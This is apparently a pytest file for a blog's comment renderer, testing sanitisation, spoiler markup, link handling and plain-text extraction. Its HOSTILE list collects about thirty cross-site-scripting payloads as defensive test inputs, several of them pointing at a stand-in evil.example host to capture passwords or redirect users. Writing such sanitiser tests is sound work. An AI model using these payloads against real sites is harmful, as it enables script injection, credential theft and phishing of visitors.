"""What strangers write becomes harmless HTML, and HTML becomes plain words."""

from html.parser import HTMLParser

import pytest

from blog.lib.html import plain_text, render_comment, split_spoilers
from tests.counting import assert_grows_evenly

ALLOWED = {
    "p": set(), "br": set(), "em": set(), "strong": set(), "blockquote": set(),
    "a": {"href", "rel"}, "details": {"class"}, "summary": set(), "div": set(),
    "span": {"class", "aria-hidden", "data-show", "data-hide"},
}  # fmt: skip

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=&#106;&#97;&#118;&#97;script:alert(1)>",
    '"><svg/onload=alert(1)>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](  jAvAsCrIpT&colon;alert(1))",
    "<javascript:alert(1)>",
    "<https://a.example/onmouseover=alert(1)//>",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "![x](https://tracker.example/pixel.png)",
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/'><script>alert(1)</script>",
    "https://a.example/`onmouseover=alert(1)`",
    "||<script>alert(1)</script>||",
    "||</div></details><script>alert(1)</script>||",
    "> <iframe srcdoc='<script>alert(1)</script>'>",
    "*<b onclick=alert(1)>*",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<style>@import 'https://evil.example/x.css'</style>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<form action=https://evil.example><input name=password>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>\u202calert(1)",
    "<" * 300 + "script>",
    "# Heading\n\n| a | b |\n|---|---|\n| c | d |\n\n```\ncode\n```\n\n- list\n\n---",
]


class Auditor(HTMLParser):
    """Fails on everything that a comment may not hold."""

    def handle_starttag(self, tag, attrs):
        assert tag in ALLOWED, f"<{tag}> came through"
        for name, value in attrs:
            assert name in ALLOWED[tag], f"<{tag} {name}> came through"
            if name == "href":
                assert value.lower().startswith(("https://", "http://", "mailto:")), value


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_hostile_becomes_more_than_words(source):
    html = render_comment(source)
    auditor = Auditor()
    auditor.feed(html)
    auditor.close()


@pytest.mark.parametrize("mark", ["*", "> ", "||a", "**a*", "[("])
def test_five_thousand_marks_cost_no_more_each_than_half_of_them(mark):
    assert_grows_evenly(render_comment, mark.__mul__, 2500 // len(mark))


def test_paragraphs_lines_and_emphasis():
    html = render_comment("One *soft* **loud**\r\nsecond line\r\n\r\nnext")
    assert html == (
        "<p>One <em>soft</em> <strong>loud</strong><br>\nsecond line</p>\n<p>next</p>\n"
    )


def test_a_whole_address_becomes_a_link_that_earns_its_writer_nothing():
    html = render_comment("See https://example.org/a?b=1&c=2.")
    link = '<a href="https://example.org/a?b=1&amp;c=2" rel="ugc nofollow noopener">'
    assert link in html
    assert html.count("<a ") == 1


@pytest.mark.parametrize("words", ["the end.It was", "me@mail.example", "ftp://a.b", "//a.b/c"])
def test_what_is_no_whole_address_stays_text(words):
    assert "<a " not in render_comment(words)


def test_quotes_deeper_than_the_parser_goes_lose_no_word():
    html = render_comment(">" * 60 + " still here\n" + "> " * 60 + "and here")
    assert "still here" in html
    assert "and here" in html


def test_a_spoiler_is_closed_and_stands_between_paragraphs():
    html = render_comment("Before ||he leaves|| after")
    assert html.startswith('<p>Before</p>\n<details class="spoiler"><summary>')
    assert "<div><p>he leaves</p>\n</div></details><p>after</p>" in html
    assert " open" not in html


def test_a_spoiler_may_span_paragraphs():
    hidden = render_comment("||one\n\ntwo||").partition("<div>")[2]
    assert "<p>one</p>\n<p>two</p>" in hidden


def test_a_quote_goes_on_after_a_spoiler_in_it():
    html = render_comment("> said ||secret|| more\n> still")
    assert html.count("<blockquote>") == 3
    assert "<blockquote>\n<p>more<br>\nstill</p>\n</blockquote>" in html


def test_a_full_stop_after_a_spoiler_does_not_stand_alone():
    html = render_comment("Behind ||the door||.")
    assert html.endswith("<div><p>the door.</p>\n</div></details>")
    assert "<p>Then more</p>" in render_comment("Behind ||the door||. Then more")
    assert "<p>.5</p>" in render_comment("Behind ||the door||.5")


def test_spoilers_are_open_for_those_who_ask_for_it():
    html = render_comment("||he leaves|| <details>", spoilers_open=True)
    assert html.startswith('<details class="spoiler" open><summary>')
    assert html.count("<details") == 1


def test_a_quote_of_a_spoiler_alone_leaves_no_empty_quote():
    html = render_comment("> ||he leaves||")
    assert html.count("<blockquote>") == 1
    assert "<blockquote></blockquote>" not in html


def test_marks_in_marks_and_across_quotes_lose_no_word_and_show_none():
    for source in ("||a ||b|| c||", "> ||a\n> b||\n\nc", "*x ||a* b|| c", "||a|| ||b||c||"):
        shown = plain_text(render_comment(source)).replace("|", "").split()
        hidden = plain_text(render_comment(source).replace("details", "div")).split()
        assert "a" not in shown, source
        assert {"a", "b"} <= set("".join(hidden)), source


@pytest.mark.parametrize("source", ["||a|| b " * 625, "||>" * 1666, "> ||a||\n" * 555, "|" * 5000])
def test_so_many_spoilers_stay_few_curtains_and_nothing_hidden_is_shown(source):
    html = render_comment(source)
    assert html.count("<details") <= 30
    assert len(html) < 40_000
    assert "a" not in plain_text(html)


@pytest.mark.parametrize(
    "source",
    [
        "\u202e" * 2500 + "a",
        "Z" + "\u0338\u0337" * 2000,
        "W" * 5000,
        "\ufdfa" * 5000,
        "👩\u200d" * 2000,
    ],
)
def test_letters_of_any_kind_come_through_as_they_are(source):
    assert source in render_comment(source)


@pytest.mark.parametrize("source", ["a || b", "||", "||||", "|| ||", "a ||"])
def test_marks_without_partner_or_words_stay_text(source):
    assert split_spoilers(source) == [(False, source)]
    assert "details" not in render_comment(source)


def test_plain_text_is_one_line_of_words():
    assert plain_text("<p>One <em>and</em> a half</p><p>Two&amp;a<br>bit</p>") == (
        "One and a half Two&a bit"
    )


def test_plain_text_leaves_out_what_is_hidden():
    html = (
        "<p>Seen</p><details class='spoiler'><summary>The end</summary>"
        "<details>nested</details>he dies</details><script>x()</script><p>too</p>"
    )
    assert plain_text(html) == "Seen too"


def test_plain_text_of_a_folded_question_is_kept():
    assert plain_text("<details><summary>Why?</summary>Because.</details>") == "Why? Because."
